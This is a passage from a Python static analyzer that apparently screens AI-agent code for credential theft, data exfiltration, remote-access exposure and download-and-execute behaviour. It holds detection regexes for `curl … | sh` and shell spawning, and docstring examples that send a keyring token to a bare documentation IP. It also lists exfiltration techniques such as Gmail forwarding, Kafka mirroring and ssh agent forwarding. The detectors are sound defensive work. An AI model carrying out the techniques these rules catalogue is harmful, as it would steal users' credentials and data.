            self.lists["store read"] = node
            self.archives.append((self.lists["store listing"], "reads every secret of the desktop keyring "
                                                              "(secretstorage: every item's get_secret())"))

    def env_collected(self, q: str | None, node, value) -> None:
        """The whole environment turned into data the code carries (`ctx.data = {k: v for k, v in
        os.environ.items()}`, `json.dumps(dict(os.environ))`): through attributes and returns a reader cannot follow
        to the request, it is noted, and sent off when the code uses the network (walk.py). A copy handed to a child
        process (`env=`) stays the child's."""
        if value is None or not self.mentions_env(value):
            return
        up = node.parent.parent if q is not None and node.parent is not None else None
        if up is not None and up.type == "call" and self.src(up.child_by_field_name("function")).rpartition(".")[2] in (
                "print", "pprint", "debug", "info", "write"):
            return  # printed or logged here: shown, not carried
        if q is None and node.type == "subscript":  # payload["ctx"] = …: unless it is a child's `env` option
            if "env" in (self.string(node.child_by_field_name("subscript")) or "env").lower():
                return
        elif q is None:  # an attribute given it: unless the code hands that attribute to a child as its environment
            attr = self.src(node.child_by_field_name("attribute"))
            if re.search(rb"env\s*=\s*[\w.]*\b" + re.escape(attr.encode()) + rb"\b", self.doc.data):
                return
        self.archives.append((value, "collects the whole environment (every secret in it)"))

    def decoded_paths(self, how: str, node) -> None:
        """A decoder the code calls (rot13, hex, base64): every literal of the code that decodes that way to a
        credential path (`"~/.ffu/vq_rq25519"` under rot13, `"2e6177732f..."` under hex) is a secret hidden from a
        reader; judged once per decoding."""
        if not how or "decoded " + how in self.lists or self.root is None:
            return
        self.lists["decoded " + how] = node
        from .. import paths
        from ..common_code import decoded

        stack = [self.root]
        while stack:
            n = stack.pop()
            if n.type == "string" and 4 <= n.end_byte - n.start_byte <= 512:
                v = self.string(n)
                text = decoded(v, how) if v else None
                if text and text != v and "/" in text.strip("/"):
                    path = text.strip()
                    if paths.SECRET in paths.kinds(path) or (not path.startswith(("/", "~")) and
                                                             paths.SECRET in paths.kinds("~/" + path)):
                        self.block("secret-read", f"`{self.src(n)[:40]}` decoded ({how}) is {path}, a credential "
                                                  "file hidden from a reader; agents must not read secrets", n)
                        return
            elif n.named_child_count:
                stack.extend(n.named_children)

    def credential_list(self, node) -> None:
        """A list or tuple naming two or more credential files or folders by their place under the home (`[".kube/
        config", ".netrc"]`, `(".s" + "sh", ".a" + "ws")`) in code that finds the home: a harvest of them (one
        loop or lambda away from reading each); a collection named for leaving them out (`EXCLUDE = […]`) is not."""
        items = [c for c in node.named_children if c.type in ("string", "binary_operator", "concatenated_string")]
        if len(items) < 2 or not (holds(self.doc.data, b"expanduser") or holds(self.doc.data, b"home()") or
                                  holds(self.doc.data, b"HOME")):
            return
        from .. import paths

        found, suffixes = [], []
        for c in items[:32]:
            v = self.string(c)
            if v and v[:1] == "." and len(v) < 128 and paths.SECRET in paths.kinds("~/" + v.removeprefix("./")):
                found.append(v)
            elif v and v[:1] == "." and "/" not in v and len(v) < 24 and paths.held_secret("~/k" + v):
                suffixes.append(v)  # ".jks", ".p12", ".p8": signing keys known by their suffix
        if len(suffixes) >= 2 and in_input(_WALKS_TREE, self.doc.data) and "key suffixes" not in self.lists and \
                not _LEAVES_OUT.search(self.src(node.parent.parent) if node.parent and node.parent.parent else ""):
            # a walk of the home matching them: every signing key of every project, sent when the code uses the network
            self.lists["key suffixes"] = node
            self.archives.append((node, f"walks the home for signing keys and certificates ({', '.join(suffixes[:4])})"))
        if len(found) < 2:
            return
        up = node.parent
        while up is not None and up.type not in ("assignment", "expression_statement", "block", "module"):
            up = up.parent
        left = up.child_by_field_name("left") if up is not None and up.type == "assignment" else None
        if left is not None and _LEAVES_OUT.search(self.src(left)):
            return
        self.block("secret-read", f"the code lists credential files of the home ({', '.join(found[:4])}); agents "
                                  "must not read secrets", node)

    # -- credentials used where they belong ----------------------------------------------------------------------
    def login_path(self, node, value: str) -> bool:
        """Whether the path `value` of the expression `node` is an ssh key or ssh configuration the code hands an
        ssh client to log in with (`connect(key_filename=str(Path("~/.ssh/id_deploy").expanduser()))`,
        `SSHConfig().parse(open(os.path.expanduser("~/.ssh/config")))`, `RSAKey.from_private_key_file(p)`,
        fabric's `connect_kwargs={"key_filename": …}`), through a name too: the client uses it to log in, as `ssh -i
        KEY` does; nothing of it is read into the code and sent. (Asked by the walk before a credential path is
        judged; a path with any other use stays judged.)"""
        if ".ssh/" not in value:
            return False
        from .. import paths

        if not any(v.split(".")[0] in _SSH_LIBRARIES for v in self.alias.values()):
            return self._key_reference(node, paths.normalize(value).rpartition("/")[2])
        name = paths.normalize(value).rpartition("/")[2]
        if not (name == "config" or ssh_key_name(name)):
            return False
        return self._login_use(node, 0)

    def _key_reference(self, node, name: str) -> bool:
        """`cfg["banks"]["acme"]["sftp"]["key_file"] = "~/.ssh/acme_bank2_sftp"` then the configuration written back
        (`yaml.safe_dump`, `json.dump`, `write_text`): the key's path put into the project's settings, where the
        fetcher's ssh client will log in with it; nothing of the key is read. Only in code that neither expands the
        path, copies files, runs programs nor uses the network (which would be the key read under another name)."""
        up = node.parent
        if not ssh_key_name(name) or up is None:
            return False
        if up.type == "assignment" and up.child_by_field_name("right") == node:
            left = up.child_by_field_name("left")
            key = self.string(left.child_by_field_name("subscript")) if left is not None and \
                left.type == "subscript" else None
        elif up.type == "pair" and up.child_by_field_name("value") == node:
            key = self.string(up.child_by_field_name("key"))
        else:
            return False
        data = self.doc.data
        return key is not None and _KEY_SETTING.search(key) is not None and in_input(_CONFIG_DUMP, data) and \
            not in_input(_KEY_USED, data) and not in_input(_SENDS_OUT, data)

    def _login_use(self, node, depth: int) -> bool:
        for _ in range(12):
            up = node.parent
            if up is None or depth > 3:
                return False
            t = up.type
            if t == "argument_list":
                call = up.parent
                q = self.qualname(call.child_by_field_name("function")) or ""
                meth = q.rpartition(".")[2]
                if meth in _LOGIN_CALLS:
                    return True
                if q not in _PATH_WRAPS and q != "open" and not q.startswith("pathlib.Path"):
                    return False
                if q == "open":
                    return self._config_parsed(call)
                node = call
            elif t == "call" or t == "parenthesized_expression":
                node = up
            elif t == "attribute" and up.child_by_field_name("object") == node and self.src(
                    up.child_by_field_name("attribute")) in ("expanduser", "resolve", "absolute") and \
                    up.parent is not None and up.parent.type == "call":
                node = up.parent
            elif t == "keyword_argument":
                return self.src(up.child_by_field_name("name")) in _LOGIN_KEYWORDS
            elif t == "pair":
                return self.string(up.child_by_field_name("key")) in _LOGIN_KEYWORDS
            elif t in ("list", "tuple"):  # key_filename=[k1, k2]
                node = up
            elif t == "assignment" and up.child_by_field_name("right") == node:
                left = up.child_by_field_name("left")
                if left is None or left.type != "identifier" or self.mutable(self.src(left)):
                    return False
                uses = self.uses_of(left)
                return bool(uses) and all(self._login_use(u, depth + 1) for u in uses)
            else:
                return False
        return False

    def _config_parsed(self, call) -> bool:
        """`with open(p) as fh: cfg.parse(fh)` (or `cfg.parse(open(p))`) of a paramiko SSHConfig: the ssh
        configuration read to find a host's address, user and key, as `ssh HOST` reads it."""
        if not holds(self.doc.data, b"SSHConfig"):
            return False
        up = call.parent
        if up is not None and up.type == "argument_list":
            fn = up.parent.child_by_field_name("function")
            return fn is not None and fn.type == "attribute" and self.src(fn.child_by_field_name("attribute")) == "parse"
        if up is None or up.type != "as_pattern":
            return False
        target = up.child_by_field_name("alias")
        handle = self.src(target.named_children[0]) if target is not None and target.named_children else ""
        uses = re.findall(rb"(?<![\w.])" + re.escape(handle.encode()) + rb"\b(?!\s*=)", self.doc.data)
        return bool(handle) and len(uses) == 2 and re.search(rb"\.parse\(\s*" + re.escape(handle.encode()) + rb"\s*\)",
                                                             self.doc.data) is not None

    def keyring_read(self, q: str, node, pos: list) -> None:
        """`token = keyring.get_password(SERVICE, USER)`: a password of the system keyring, held unless every use
        of it authenticates a request (an `Authorization` header, `auth=`) or only tests that it is there: the
        token then goes to the API it is for, as the shell rules allow a keychain token in a header."""
        up = node.parent
        while up is not None and up.type in ("parenthesized_expression", "await"):
            up = up.parent
        left = up.child_by_field_name("left") if up is not None and up.type == "assignment" and \
            up.child_by_field_name("right") is not None else None
        if left is not None and left.type == "identifier" and not self.mutable(self.src(left)):
            uses = self.uses_of(left)
            # one credential named in the code (`get_password("widget-dev", "sentry-auth-token")`), handed to a
            # program in its environment (`sentry-cli` reads SENTRY_AUTH_TOKEN) to call its own service
            names = [self.string(p) for p in pos[:2]]
            named = len(names) == 2 and None not in names
            if uses and all(self._authenticates(u) or named and (self._child_env(u) or self._to_own_service(u, names))
                            for u in uses):
                return
            for u in uses or ():
                host = self._token_sent(u)
                if host is not None and public_ip(_host_of(host)):  # (a login form's body to a named host is held)
                    self.block("exfiltration", f"`{q}` reads a password from the system keyring and the code sends it "
                                               f"to {host}, a bare public address, in the request's address or body: "
                                               "the credential itself goes to that machine; never send a stored "
                                               "credential off the machine", u)
                    return
        elif len(pos) >= 2 and all(self.string(p) is not None for p in pos[:2]) and self._child_env(node):
            return  # os.environ["SENTRY_AUTH_TOKEN"] = keyring.get_password("widget-dev", "sentry-auth-token")
        self.review("secret-read", f"`{q}` reads a password from the system keyring; ask the user for the "
                                   "credential the task needs", node)

    def _token_sent(self, use) -> str | None:
        """The host a request carries the token `use` to in its URL or body (`urlopen("http://192.0.2.33/c?" + t)`,
        `json={"t": t}`); None when the token authenticates it (a header, `auth=`) or goes nowhere."""
        node = use
        for _ in range(8):
            up = node.parent
            if up is None:
                return None
            if up.type == "keyword_argument" and self.src(up.child_by_field_name("name")) in _AUTH_PLACES:
                return None
            if up.type == "pair" and (self.string(up.child_by_field_name("key")) or "").lower() in _AUTH_HEADERS:
                return None
            if up.type == "call":
                if self.qualname(up.child_by_field_name("function")) == "urllib.request.Request" or self._sends(up):
                    first = next((a for a in self.args(up) if a.type != "keyword_argument"), None) or \
                        self.kwarg(up, "url")
                    host = remote_target(self._url_text(first)) if first is not None else None
                    return host or None
                if self.qualname(up.child_by_field_name("function")) not in ("str", "urllib.parse.quote",
                                                                              "urllib.parse.urlencode"):
                    return None
            elif up.type not in ("binary_operator", "interpolation", "string", "pair", "dictionary", "keyword_argument",
                                 "argument_list", "parenthesized_expression", "boolean_operator", "tuple", "list"):
                return None
            node = up
        return None

    def _child_env(self, use) -> bool:
        """A use of a token that puts it in a child process's environment under a variable's name: `env={**os.environ,
        "SENTRY_AUTH_TOKEN": token}`, `env=dict(os.environ, NPM_TOKEN=token)`, `os.environ["X_TOKEN"] = token`. The
        program reads it to authenticate; what that program is told to do is judged on its own."""
        up = use.parent
        if up is None:
            return False
        if up.type == "pair" and up.child_by_field_name("value") == use:
            if not _ENV_NAME.match(self.string(up.child_by_field_name("key")) or ""):
                return False
            holder = up.parent
        elif up.type == "keyword_argument" and up.child_by_field_name("value") == use:
            if not _ENV_NAME.match(self.src(up.child_by_field_name("name"))):
                return False
            call = up.parent.parent if up.parent is not None else None
            if call is None or call.type != "call" or self.qualname(call.child_by_field_name("function")) != "dict":
                return False
            holder = call
        elif up.type == "assignment" and up.child_by_field_name("right") == use:
            target = up.child_by_field_name("left")
            return target is not None and target.type == "subscript" and self.qualname(
                target.child_by_field_name("value")) == "os.environ" and _ENV_NAME.match(
                self.string(target.child_by_field_name("subscript")) or "") is not None
        else:
            return False
        kw = holder.parent if holder is not None else None
        if kw is not None and kw.type == "assignment" and kw.child_by_field_name("right") == holder:
            # `env = dict(os.environ, TWINE_PASSWORD=token)` then `run([...], env=env)`: only ever a child's environment
            target = kw.child_by_field_name("left")
            if target is None or target.type != "identifier" or self.mutable(self.src(target)):
                return False
            uses = [u for u in self.uses_of(target) or () if u.parent is None or u.parent.type != "keyword_argument" or
                    u.parent.child_by_field_name("name") != u]  # (the keyword `env=` itself is spelled so too)
            return bool(uses) and all(u.parent is not None and u.parent.type == "keyword_argument" and
                                      self.src(u.parent.child_by_field_name("name")) == "env" for u in uses)
        return kw is not None and kw.type == "keyword_argument" and self.src(kw.child_by_field_name("name")) == "env"

    def _to_own_service(self, use, names: list) -> bool:
        """A use of a keyring token in a request to a host of the service its keyring entry is named for (the entry
        `("widget-dev", "sentry-auth-token")` read as the variables WIDGET_DEV and SENTRY_AUTH_TOKEN are)."""
        node = use
        for _ in range(6):
            up = node.parent
            if up is None:
                return False
            if up.type == "call":
                if not self._sends(up):
                    return False
                first = next((a for a in self.args(up) if a.type != "keyword_argument"), None) or self.kwarg(up, "url")
                host = remote_target(self._url_text(first)) if first is not None else None
                if not host:
                    return False
                owners = [owner(re.sub(r"[^A-Za-z0-9]+", "_", n).upper()) for n in names]
                return any(o is not None and o.owns(host) for o in owners)
            if up.type not in ("pair", "dictionary", "keyword_argument", "argument_list", "interpolation", "string"):
                return False
            node = up
        return False

    def _authenticates(self, use) -> bool:
        """A use of a token that sends it nowhere but as a request's credential, or only tests it."""
        node = use
        for _ in range(10):
            up = node.parent
            if up is None:
                return False
            t = up.type
            if t in ("comparison_operator", "not_operator") or (t in ("if_statement", "while_statement") and
                                                                 up.child_by_field_name("condition") == node):
                return True  # `if token is None`, `if not token`
            if t == "keyword_argument":
                return self.src(up.child_by_field_name("name")) in _AUTH_PLACES
            if t == "pair":
                key = self.string(up.child_by_field_name("key")) or ""
                return key.lower() in ("authorization", "x-api-key", "private-token", "x-auth-token")
            if t in ("interpolation", "string", "binary_operator", "tuple", "parenthesized_expression"):
                node = up  # f"Bearer {token}", ("user", token)
                continue
            return False
        return False

    # -- this machine offered to others: agent forwarding, tunnels to sshd, captured traffic, the trust bundle ---------
    def visit_exposure(self, q: str | None, fn, meth: str | None, node, pos: list) -> None:
        """Calls that hand this machine, the user's keys or their traffic to someone else: paramiko's
        `AgentRequestHandler(chan)` on a session with a host written as a public address (that host signs with every
        key in the user's agent while the session lasts); pyngrok's `ngrok.connect(22, "tcp")` (sshd, RDP, VNC or the
        Docker API on a public address); scapy's `sniff(prn=…)` or pyshark's `LiveCapture` in code that sends to the
        network (live traffic, with the passwords and cookies in it, carried off); certifi's bundle opened for writing
        (every Python program then trusts that authority: whoever holds its key reads their TLS)."""
        if holds(self.doc.data, b"flow") and in_input(_MITM_HOOK, self.doc.data):
            self._mitm_addon(q, fn, node)
        if q is not None and q.startswith(_SINK_MODULES) or meth in _SINK_METHODS:
            self.visit_sinks(q, fn, meth, node, pos)
        if meth in _ACCOUNT_METHODS:
            self.visit_accounts(q, fn, meth, node, pos)
        if meth in ("run", "create_process") and pos and holds(self.doc.data, b"asyncssh") and \
                any(v.startswith("asyncssh") for v in self.alias.values()) and \
                not (q or "").startswith(("subprocess", "asyncio", "fabric", "invoke", "asyncssh")):
            # `async with asyncssh.connect(host) as c: await c.run("…")`: the line runs on that host
            self._run_line(f"asyncssh {self.src(fn)[:40]}", pos[0], node, True)
        if q is None:
            return
        last = q.rpartition(".")[2]
        if last in ("create_server", "listen") and q.startswith("asyncssh") and in_input(_OPEN_AUTH, self.doc.data):
            host = pos[1] if len(pos) > 1 else self.kwarg(node, "host")
            where = self.string(host) if host is not None else ""
            if where in ("", "0.0.0.0", "::", None) or in_input(_SHELL_CODE, self.doc.data) or not loopback(where):
                self.block("reverse-shell", f"`{q}` starts an ssh server that lets in anyone without a key or password "
                                            f"(on {where or 'every interface'}): whoever reaches it gets a session on "
                                            "this machine; require keys (`authorized_client_keys=`)", node)
                return
        if last == "AgentRequestHandler" and q.startswith("paramiko"):
            host = _connected_address(self.doc.data)
            if host is not None:
                self.block("exfiltration", f"`AgentRequestHandler` forwards the user's ssh agent to {host}, an address "
                                           "that is not this network's: that host signs in wherever the user's keys "
                                           "are accepted while the session lasts; do not forward the agent", node)
        elif last == "connect" and q.startswith("pyngrok") and pos:
            port = (self.string(pos[0]) or self.src(pos[0])).rsplit(":", 1)[-1]
            proto = self.string(pos[1]) if len(pos) > 1 else None
            kw = self.kwarg(node, "proto")
            proto = self.string(kw) if kw is not None else proto
            if proto in ("tcp", "tls") and port in _REMOTE_ACCESS:
                self.block("reverse-shell", f"`{q}` offers this machine's port {port} (remote login or the Docker API) "
                                            "on a public address: whoever reaches it gets into this machine; tunnel "
                                            "only a web app's port", node)
        elif (last in ("sniff", "AsyncSniffer") and q.startswith("scapy") or
              last in ("LiveCapture", "LiveRingCapture") and q.startswith("pyshark")) and in_input(_SENDS_OUT, self.doc.data):
            self.block("exfiltration", f"`{q}` captures live network traffic in code that also sends to the network: the "
                                       "passwords, cookies and tokens in it go with it; analyse a capture file here "
                                       "and keep the results on this machine", node)
        elif q == "open" and pos and "certifi.where" in self.src(pos[0]):
            mode_node = pos[1] if len(pos) > 1 else self.kwarg(node, "mode")
            mode = self.string(mode_node) if mode_node is not None else "r"
            if mode is not None and any(c in mode for c in "wa+x"):
                fetched = in_input(_FETCHES_CODE, self.doc.data)
                say = ("adds a certificate authority to certifi's bundle, which every Python program trusts: whoever "
                       "holds its key reads and changes their TLS traffic")
                if fetched:
                    self.block("exfiltration", f"the code {say}, and the certificate comes from the network; point "
                                               "the one client at a CA file (`verify=`, `REQUESTS_CA_BUNDLE`)", node)
                else:
                    self.review("system-write", f"the code {say}; point the one client at a CA file (`verify=`, "
                                                "`REQUESTS_CA_BUNDLE`) instead", node)


    def visit_accounts(self, q: str | None, fn, meth: str, node, pos: list) -> None:
        """The user's accounts turned against them: a mail or FTP login handed to a server written as a bare public
        address; every message of every mail folder fetched (sent off when the code uses the network); a Gmail
        forwarding address or a filter that forwards mail made through the API; the environment's secrets posted into
        a chat channel with Slack's client."""
        data = self.doc.data
        obj = fn.child_by_field_name("object") if fn.type == "attribute" else None
        if obj is None:
            return
        if meth == "login" and in_input(_MAIL_LIBRARIES, data):
            root, chain, made = self.origin(obj)
            if root not in _MAIL_CLIENTS or chain or made is None:
                return
            given = [a for a in self.args(made) if a.type != "keyword_argument"]
            host = self.string(given[0]) if given else self.string(self.kwarg(made, "host")) \
                if self.kwarg(made, "host") is not None else None
            secret = pos[1] if len(pos) > 1 else self.kwarg(node, "password")
            if host and public_ip(host) and secret is not None and self.string(secret) is None:
                self.block("exfiltration", f"`{self.src(fn)}` logs in to {host}, a server written as a bare public "
                                           "address, with the user's credentials: whoever runs that machine gets the "
                                           "password; log in only to the provider's own host name", node)
        elif meth == "fetch" and holds(data, b"imaplib") and len(pos) > 1 and _WHOLE_MESSAGE.search(self.src(pos[1])) and \
                in_input(_EVERY_FOLDER, data) and "mailbox dump" not in self.lists:
            self.lists["mailbox dump"] = node
            self.archives.append((node, "fetches every message of every mail folder (`.list()`, `.select()` each, "
                                        "whole messages)"))
        elif meth == "create" and holds(data, b"googleapiclient") and holds(data, b"forward"):
            chain = self.src(obj)
            body = self.kwarg(node, "body")
            text = self.src(self.declared(body, frozenset({"dictionary"})) or body) if body is not None else ""
            if "forwardingAddresses()" in chain or "filters()" in chain and _FORWARD_ACTION.search(text):
                self.block("exfiltration", f"`{chain[-60:]}.create` makes the Gmail account forward mail to another "
                                           "address: every later message matching it leaves the mailbox, unseen; set "
                                           "up forwarding in the mail settings yourself, if it is wanted", node)
        elif meth == "updateAutoForwarding" and holds(data, b"googleapiclient"):
            self.block("exfiltration", "`updateAutoForwarding` makes the Gmail account forward all its mail to another "
                                       "address; set up forwarding in the mail settings yourself, if it is wanted", node)
        elif meth in _CHAT_POSTS and (holds(data, b"slack") or holds(data, b"telegram") or holds(data, b"discord")):
            args = [a.child_by_field_name("value") if a.type == "keyword_argument" else a for a in self.args(node)]
            for name, read in self._secret_reads([a for a in args if a is not None], _TEXT_KINDS)[:1]:
                name = f"the file {name[len(_FILE):]}" if name.startswith(_FILE) else name
                self.block("exfiltration", f"`{meth}` posts {name} into a chat channel, where its members (and any "
                                           "organisation the channel is shared with) read it: never put credentials "
                                           "in messages; tell the user where the secret is kept instead", read)

    def visit_sinks(self, q: str | None, fn, meth: str | None, node, pos: list) -> None:
        """Libraries that carry data off the machine or gather secrets without a request in sight: logging's network
        handlers and Prometheus's push gateway (the network is used: what the code collected goes with it), an Info
        metric filled with the environment, every Airflow connection read from its database, a Sentry hook that
        copies each event elsewhere, a Kafka producer to a broker at a public address fed by a consumer, DuckDB
        told to load unsigned extensions from another server."""
        top = (q or "").split(".")[0]
        last = (q or "").rpartition(".")[2] or meth
        if top == "logging" and last in _LOG_SENDERS:
            host = pos[0] if pos else self.kwarg(node, "host")
            where = self.string(host) if host is not None else None
            if where is None or not loopback(where.rsplit(":", 1)[0] if where.count(":") == 1 else where):
                self.uses_net = True  # logging.handlers.HTTPHandler("198.51.100.44:8080", "/log")
        elif top == "prometheus_client" and last in ("push_to_gateway", "pushadd_to_gateway"):
            gw = pos[0] if pos else self.kwarg(node, "gateway")
            where = self.string(gw) if gw is not None else None
            if where is None or not loopback(_host_of(where)):
                self.uses_net = True
        elif meth in ("info", "labels") and holds(self.doc.data, b"prometheus_client") and fn.type == "attribute" and any(
                v.startswith("prometheus_client") for v in self.alias.values()):
            for a in self.args(node):
                value = a.child_by_field_name("value") if a.type in ("keyword_argument", "dictionary_splat") else a
                if value is None and a.type == "dictionary_splat" and a.named_children:
                    value = a.named_children[0]
                if value is not None and self.mentions_env(value):
                    self.archives.append((value, "puts the environment's variables (its secrets) in a metric"))
                    break
        elif meth == "query" and pos and holds(self.doc.data, b"password") and self._airflow_connection(pos[0]):
            self.archives.append((node, "reads every Airflow connection with its password (decrypted from the "
                                        "metadata database)"))
        elif top == "sentry_sdk" and last in ("init", "Client"):
            self._sentry_hooks(node)
        elif last in _KAFKA_PRODUCERS and top in ("confluent_kafka", "kafka", "aiokafka"):
            self._kafka_mirror(q, node, pos)
        elif top == "duckdb" and holds(self.doc.data, b"unsigned") and "duckdb unsigned" not in self.lists:
            self.lists["duckdb unsigned"] = node
            data = self.doc.data.decode("utf-8", "replace")
            m = _DUCKDB_REPO.search(data) if _DUCKDB_UNSIGNED.search(data) else None
            if m is not None and _host_of(m.group(1)) not in _DUCKDB_HOSTS and not loopback(_host_of(m.group(1))):
                self.block("download-exec", f"DuckDB is told to accept unsigned extensions and to install them from "
                                            f"{m.group(1)}: an extension is native code loaded into this process, "
                                            "and no one vouches for that one; install signed extensions from "
                                            "DuckDB's own repository", node)

    def _airflow_connection(self, arg) -> bool:
        """`session.query(Connection)` with Airflow's Connection model: every connection, its password decrypted."""
        q = self.qualname(arg) or ""
        return q.startswith("airflow.") and q.endswith(".Connection")

    def _sentry_hooks(self, node) -> None:
        """`sentry_sdk.init(before_send=_mirror)` with `_mirror` sending to a host other than Sentry's: every error
        event (the request with its cookies and headers, the user, local variables) copied to that host."""
        for key in ("before_send", "before_send_transaction", "before_breadcrumb"):
            hook = self.kwarg(node, key)
            if hook is None or hook.type != "identifier":
                continue
            name = self.src(hook)
            body = next((d for d in (self.root.named_children if self.root is not None else ())
                         if d.type == "function_definition" and self.src(d.child_by_field_name("name")) == name), None)
            text = self.src(body) if body is not None else ""
            if not _SENDS_OUT.search(text.encode()):
                continue
            hosts = [h for h in _URL_HOSTS.findall(text) if not loopback(h) and not h.endswith("sentry.io")]
            if hosts:
                self.block("exfiltration", f"the Sentry hook `{key}={name}` sends each event to {hosts[0]}: every "
                                           "error's request (cookies, headers), user and local variables go to that "
                                           "host as well; scrub events in the hook and send them only to the DSN",
                           body)
                return

    def _kafka_mirror(self, q: str | None, node, pos: list) -> None:
        """A Kafka producer to a broker written as a public address, in code that also consumes (confluent_kafka's
        `Producer({"bootstrap.servers": "198.51.100.60:9092"})`, kafka-python's `KafkaProducer(bootstrap_servers=…)`):
        the cluster's topics copied to a machine outside the network."""
        if not holds(self.doc.data, b"Consumer"):
            return
        conf = pos[0] if pos else None
        if conf is not None and conf.type == "identifier":
            conf = self.declared(conf, frozenset({"dictionary"}))
        servers = None
        if conf is not None and conf.type == "dictionary":
            servers = next((p.child_by_field_name("value") for p in conf.named_children if p.type == "pair" and
                            self.string(p.child_by_field_name("key")) == "bootstrap.servers"), None)
        servers = servers if servers is not None else self.kwarg(node, "bootstrap_servers")
        text = " ".join(self.string_items(servers)) if servers is not None and servers.type in ("list", "tuple") else \
            self.string(servers) if servers is not None else None
        for broker in re.split(r"[,\s]+", text or ""):
            host = _connected_address(f'.connect("{_host_of(broker)}")'.encode())
            if host is not None:
                self.block("exfiltration", f"`{q}` writes to a Kafka broker at {host}, an address outside this "
                                           "network, in code that consumes the cluster's topics: their messages are "
                                           "copied off the machine; replicate only between the organisation's "
                                           "clusters", node)
                return

    def _mitm_addon(self, q: str | None, fn, node) -> None:
        """A mitmproxy addon (`def request(flow)`, `def response(flow)`) sees every request and response of the
        traffic through the proxy: one that sends their headers, cookies or bodies to the network hands over the
        logins in them; one that puts an outside `<script src>` or a `curl … | sh` into responses runs that code in
        every page or install script passing through. An addon that logs, counts or mocks locally is ordinary."""
        data = self.doc.data
        sent = q is not None and (q.startswith(_MITM_SENDERS) or q in ("urllib.request.urlopen", "urlopen"))
        if sent and in_input(_FLOW_SECRETS, data):
            self.block("exfiltration", f"the mitmproxy addon sends what passes through the proxy (`{q}`) with its "
                                       "headers, cookies or bodies to the network: the logins and tokens in them go "
                                       "with it; log to a local file instead", node)
        elif self.src(fn).startswith("flow.response") and in_input(_RESPONSE_SET, data) and in_input(_INJECTED, data):
            self.block("download-exec", "the mitmproxy addon puts outside code into the responses passing through (a "
                                        "remote `<script src>` or a `curl … | sh`): every page or install script "
                                        "fetched through the proxy runs it; change responses only with local, literal "
                                        "content", self.root if self.root is not None else node)


# a mitmproxy addon: its event hooks take the flow
_MITM_HOOK = re.compile(rb"def\s+(?:request|response|requestheaders|responseheaders|websocket_message)\s*\(\s*"
                        rb"(?:self\s*,\s*)?flow\b")
_MITM_SENDERS = ("requests.", "httpx.", "aiohttp.", "urllib3.", "http.client.", "socket.", "smtplib.")
# (each scan stops at the next `.headers` / `authorization` / `cookie` it starts from, whose own try finds the same:
# a line of them is read once)
_FLOW_SECRETS = re.compile(rb"flow\.request\.(?:headers|cookies|content|text|get_text|urlencoded_form|multipart_form)|"
                           rb"\.headers\b(?:(?!\.headers\b)[^\n])*?(?:authorization|cookie)|"
                           rb"(?:authorization|cookie)(?:(?!authorization|cookie)[^\n])*?\bin\s+\w+")
_RESPONSE_SET = re.compile(rb"flow\.response\.(?:content|text|raw_content)\s*=|flow\.response\.set_(?:text|content)\(")
# each tag (command) read up to the next one, not to the end from each: the last one before `src=` (the pipe) finds it
_INJECTED = re.compile(rb"""(?i)<script(?:(?!<script)[^>])*\bsrc\s*=\s*\\?["']?(?:https?:)?//|"""
                       rb"""\b(?:curl|wget)\b(?:(?!\b(?:curl|wget)\b)[^\n"'])*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b""")
# an asyncssh server that lets anyone in: begin_auth says no authentication is needed, or every password is good
_OPEN_AUTH = re.compile(rb"def\s+begin_auth\s*\([^)]*\)[^:\n]*:\s*(?:#[^\n]*\s*)?return\s+False\b|"
                        rb"def\s+validate_password\s*\([^)]*\)[^:\n]*:\s*(?:#[^\n]*\s*)?return\s+True\b")
_SHELL_CODE = re.compile(rb"""["'](?:/bin/|/usr/bin/)?(?:ba|z|da)?sh["']|\bpty\.spawn\b|["']-i["']""")


# what visit_accounts reads: a login's, a mail fetch's, Gmail's settings' and the chat clients' methods
_ACCOUNT_METHODS = frozenset({"login", "fetch", "create", "updateAutoForwarding", "chat_postMessage",
                              "chat_postEphemeral", "chat_scheduleMessage", "chat_update", "conversations_setTopic",
                              "conversations_setPurpose", "files_upload", "files_upload_v2", "send_message"})
_CHAT_POSTS = _ACCOUNT_METHODS - {"login", "fetch", "create", "updateAutoForwarding"}
_MAIL_LIBRARIES = re.compile(rb"\b(?:smtplib|imaplib|poplib|ftplib)\b")
_MAIL_CLIENTS = frozenset({"smtplib.SMTP", "smtplib.SMTP_SSL", "smtplib.LMTP", "imaplib.IMAP4", "imaplib.IMAP4_SSL",
                           "poplib.POP3", "poplib.POP3_SSL", "ftplib.FTP", "ftplib.FTP_TLS"})
# an IMAP fetch of whole messages, in code that lists the folders and selects each
_WHOLE_MESSAGE = re.compile(r"(?i)RFC822(?!\.(?:HEADER|SIZE))|BODY(?:\.PEEK)?\[\]")
_EVERY_FOLDER = re.compile(rb"\.list\(\s*\)(?:.|\n)*\.select\(")
_FORWARD_ACTION = re.compile(r"""["']forward["']\s*:""")

# what visit_sinks reads: modules by name, and the methods it reads on any object
_SINK_MODULES = ("logging.", "prometheus_client", "sentry_sdk", "confluent_kafka", "kafka.", "aiokafka", "duckdb")
_SINK_METHODS = frozenset({"info", "labels", "query"})
_LOG_SENDERS = frozenset({"HTTPHandler", "SocketHandler", "DatagramHandler"})
_KAFKA_PRODUCERS = frozenset({"Producer", "SerializingProducer", "KafkaProducer", "AIOKafkaProducer"})
_URL_HOSTS = re.compile(r"""https?://(?:[^/@\s"']*@)?([A-Za-z0-9.-]+)""")
# DuckDB: unsigned extensions allowed (the option, or `SET allow_unsigned_extensions`), and where they come from
_DUCKDB_UNSIGNED = re.compile(r"""allow_unsigned_extensions["']?\s*[:=,]?\s*(?:=\s*)?["']?(?:true|1|on)\b|"""
                              r"""allow_unsigned_extensions["']?\s*:\s*True""", re.I)
_DUCKDB_REPO = re.compile(r"""(?i)(?:custom_extension_repository\s*=\s*|\bFROM\s+)["']?(https?://[^"'\s;]+)""")
_DUCKDB_HOSTS = frozenset({"extensions.duckdb.org", "community-extensions.duckdb.org", "nightly-extensions.duckdb.org"})


def _host_of(where: str) -> str:
    """The host of a URL, `host:port` or bare host."""
    from ..hosts import url_host

    if "://" in where:
        return url_host(where) or ""
    return where.rsplit(":", 1)[0] if where.count(":") == 1 else where


# local services that hand over the machine itself: sshd, RDP, VNC, the Docker API (as bash/net.py)
_REMOTE_ACCESS = frozenset({"22", "3389", "5900", "5901", "5902", "2375", "2376"})
_SENDS_OUT = re.compile(rb"\b(?:requests|httpx|aiohttp|urllib3?)\.|urlopen\(|\.send(?:all|to)?\(|smtplib|ftplib")
